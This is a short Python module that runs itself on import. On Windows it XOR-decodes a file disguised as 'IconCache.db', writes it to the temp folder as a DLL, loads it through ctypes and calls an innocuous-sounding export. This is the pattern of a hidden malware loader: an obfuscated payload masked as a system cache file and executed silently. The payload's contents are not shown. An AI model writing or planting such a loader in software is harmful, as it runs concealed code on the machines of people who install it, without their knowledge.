import ctypes
import os
import sys
import tempfile

KEY = 0x4D


def _decode(path):
    with open(path, "rb") as f:
        return bytes(b ^ KEY for b in f.read())


def run():
    if sys.platform != "win32":
        return
    src = os.path.join(os.path.dirname(__file__), "IconCache.db")
    dst = os.path.join(tempfile.gettempdir(), "IconCache.dll")
    with open(dst, "wb") as f:
        f.write(_decode(src))
    lib = ctypes.WinDLL(dst)
    lib.CalculateSum(5, 7)


run()
